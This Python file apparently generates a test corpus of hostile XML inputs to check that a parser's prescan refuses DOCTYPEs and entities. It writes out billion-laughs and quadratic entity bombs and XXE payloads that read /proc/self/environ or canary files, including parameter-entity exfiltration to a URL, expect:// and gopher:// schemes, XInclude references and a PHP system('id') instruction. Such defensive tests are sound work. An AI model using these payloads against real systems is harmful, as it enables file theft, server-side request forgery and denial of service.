# SPDX-License-Identifier: Apache-2.0
"""DESIGN: DOCTYPE and undefined entities are refused by our own prescan, without any access. What only
looks like a reference to something outside (XInclude, schemaLocation, a style sheet) is text or an
unknown element and is never followed."""
from corpus.kit import xml

DTD = "xml.doctype"


def laughs(levels, width):
    text = '<!ENTITY l0 "lol">'
    for i in range(1, levels):
        text += '<!ENTITY l%d "%s">' % (i, "&l%d;" % (i - 1) * width)
    return text, "&l%d;" % (levels - 1)


def doctypes(file, url):
    """name -> the DOCTYPE, and what stands in org_name."""
    data = "file://" + file
    nine, last = laughs(10, 10)
    return {
        "laughs": ("<!DOCTYPE feedback [%s]>" % nine, last),
        "laughs_wide": ("<!DOCTYPE feedback [%s]>" % laughs(4, 2000)[0], "&l3;"),
        "quadratic": ('<!DOCTYPE f [<!ENTITY a "%s">]>' % ("a" * 50000), "&a;" * 5000),
        "cycle": ('<!DOCTYPE f [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "internal": ('<!DOCTYPE feedback [<!ENTITY a "acme">]>', "&a;"),
        "unused": ("<!DOCTYPE feedback>", "acme"),
        "empty_subset": ("<!DOCTYPE feedback []>", "acme"),
        "elements": ("<!DOCTYPE feedback [<!ELEMENT feedback ANY>]>", "acme"),
        "attributes": ('<!DOCTYPE f [<!ATTLIST feedback a CDATA "x">]>', "acme"),
        "notation": ('<!DOCTYPE f [<!NOTATION n SYSTEM "%s">]>' % url, "acme"),
        "comment_inside": ("<!DOCTYPE f [<!-- ]> -->]>", "acme"),
        "spaces": ("<!DOCTYPE\n\n\tfeedback  [ ]  >", "acme"),
        "lower_case": ("<!doctype feedback>", "acme"),
        "long": ("<!DOCTYPE f [<!-- %s -->]>" % ("x" * 200000), "acme"),
        "unclosed": ("<!DOCTYPE f [", "acme"),
        "external_file": ('<!DOCTYPE f [<!ENTITY x SYSTEM "%s">]>' % data, "&x;"),
        "external_path": ('<!DOCTYPE f [<!ENTITY x SYSTEM "%s">]>' % file, "&x;"),
        "external_http": ('<!DOCTYPE f [<!ENTITY x SYSTEM "%sxxe">]>' % url, "&x;"),
        "external_ftp": ('<!DOCTYPE f [<!ENTITY x SYSTEM "%s">]>' % url.replace("http", "ftp"), "&x;"),
        "external_public": ('<!DOCTYPE f [<!ENTITY x PUBLIC "p" "%s">]>' % url, "&x;"),
        "external_php": ('<!DOCTYPE f [<!ENTITY x SYSTEM "php://filter/resource=%s">]>' % file, "&x;"),
        "external_expect": ('<!DOCTYPE f [<!ENTITY x SYSTEM "expect://id">]>', "&x;"),
        "external_jar": ('<!DOCTYPE f [<!ENTITY x SYSTEM "jar:%s!/x">]>' % url, "&x;"),
        "external_gopher": ('<!DOCTYPE f [<!ENTITY x SYSTEM "gopher://127.0.0.1:1/_x">]>', "&x;"),
        "external_data": ('<!DOCTYPE f [<!ENTITY x SYSTEM "data:,x">]>', "&x;"),
        "external_device": ('<!DOCTYPE f [<!ENTITY x SYSTEM "file:///dev/zero">]>', "&x;"),
        "external_proc": ('<!DOCTYPE f [<!ENTITY x SYSTEM "file:///proc/self/environ">]>', "&x;"),
        "external_unc": ('<!DOCTYPE f [<!ENTITY x SYSTEM "\\\\127.0.0.1\\c$\\x">]>', "&x;"),
        "external_subset": ('<!DOCTYPE feedback SYSTEM "%s">' % data, "acme"),
        "external_subset_http": ('<!DOCTYPE feedback SYSTEM "%sdtd">' % url, "acme"),
        "parameter": ('<!DOCTYPE f [<!ENTITY %% p SYSTEM "%sp"> %%p;]>' % url, "acme"),
        "parameter_file": ('<!DOCTYPE f [<!ENTITY %% p SYSTEM "%s"><!ENTITY %% q "<!ENTITY x SYSTEM '
                           "'%s?%%p;'>\">%%q;]>" % (data, url), "&x;"),
        "unparsed": ('<!DOCTYPE f [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "%s" NDATA n>]>' % data, "acme"),
    }


def make(corpus):
    kind = corpus.kind("xml_entities")
    org = "<org_name>hostile.example"
    for name, (doctype, text) in doctypes(corpus.canary_file, corpus.canary_url).items():
        kind.xml("doctype_" + name, [("?>\n", "?>\n" + doctype + "\n"), (org, "<org_name>" + text)], "Q",
                 DTD + (",xml.malformed,xml.tag_too_large" if name in ("lower_case", "unclosed", "long") else ""))
    wide = xml(kind.id("doctype_in_utf16")).replace("UTF-8", "UTF-16").replace(
        "?>\n", '?>\n<!DOCTYPE f [<!ENTITY x SYSTEM "file://%s">]>' % corpus.canary_file)
    kind.document("doctype_in_utf16", b"\xff\xfe" + wide.encode("utf-16-le"), "Q", DTD)
    kind.xml("doctype_behind_comment", [("?>\n", "?>\n<!-- -->\n<!DOCTYPE f>\n")], "Q", DTD)
    kind.xml("doctype_behind_bom", [("<?xml", "\ufeff<?xml"), ("?>\n", "?><!DOCTYPE f>")], "Q", DTD)
    kind.xml("doctype_in_root", [("<record>", "<!DOCTYPE f><record>")], "Q", DTD + ",xml.malformed")
    kind.xml("doctype_behind_root", [("</feedback>\n", "</feedback>\n<!DOCTYPE f>")], "SQ",
             DTD + ",xml.malformed,xml.second_root")
    kind.xml("entity_without_dtd", [("?>\n", '?>\n<!ENTITY a "b">\n')], "Q", DTD + ",xml.malformed")
    kind.xml("doctype_in_comment", [("?>\n", "?>\n<!-- <!DOCTYPE f [<!ENTITY a 'b'>]> -->\n")], "S")
    kind.xml("doctype_in_cdata", [(org, "<org_name><![CDATA[<!DOCTYPE f>]]>")], "S")
    for name, text in (("undefined", "&foo;"), ("html", "&nbsp;&copy;"), ("long_name", "&" + "e" * 200 + ";"),
                       ("parameter_in_text", "&x;%y;")):
        kind.xml("entity_" + name, [(org, org + text)], "Q", "xml.entity,xml.malformed")
    # Longer than any entity's name: a bare & before a long word, which is repaired.
    kind.xml("entity_endless_name", [(org, org + "&" + "e" * 9000 + ";")], "SQ", "xml.entity")
    kind.xml("entity_in_attribute", [("<feedback>", '<feedback a="&foo;">')], "Q", "xml.entity,xml.malformed")
    kind.xml("entity_unclosed", [(org, org + " &amp and &lt")], "SQ", "xml.entity,xml.malformed")
    # Numbers of characters: those that XML has not are no well-formed document, or are replaced.
    for name, text in (("nul", "&#0;"), ("surrogate", "&#xD800;"), ("beyond", "&#x110000;"),
                       ("huge", "&#99999999999999999999;"), ("control", "&#7;"), ("empty", "&#;"),
                       ("negative", "&#-1;"), ("nonchar", "&#xFFFE;")):
        kind.xml("reference_" + name, [(org, org + text)], "SQ", "xml.malformed,xml.entity")
    kind.xml("references_many", [(org, org + "&#65;" * 100)], "S")
    kind.xml("references_70000", [(org, org + "&amp;" * 70000)], "Q", "xml.text_too_large")
    include = ('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="%s" parse="text"/>')
    for name, where in (("file", "file://" + corpus.canary_file), ("http", corpus.canary_url + "xi")):
        kind.xml("xinclude_" + name, [("<record>", include % where + "<record>")], "S")
        kind.xml("xinclude_in_org_" + name, [(org, org + include % where)], "S")
    kind.xml("schema_location", [("<feedback>", '<feedback xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                  'xsi:schemaLocation="x %sxsd">' % corpus.canary_url)], "S")
    kind.xml("no_namespace_schema", [("<feedback>", '<feedback xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
                                      'instance" xsi:noNamespaceSchemaLocation="file://%s">'
                                      % corpus.canary_file)], "S")
    for name, text in (("stylesheet", '<?xml-stylesheet type="text/xsl" href="%sxsl"?>' % corpus.canary_url),
                       ("php", "<?php system('id'); ?>"), ("catalog", '<?oasis-xml-catalog catalog="%s"?>'
                                                           % corpus.canary_url)):
        kind.xml("instruction_" + name, [("?>\n", "?>\n" + text + "\n")], "S")
    kind.xml("base", [("<feedback>", '<feedback xml:base="%s">' % corpus.canary_url)], "S")
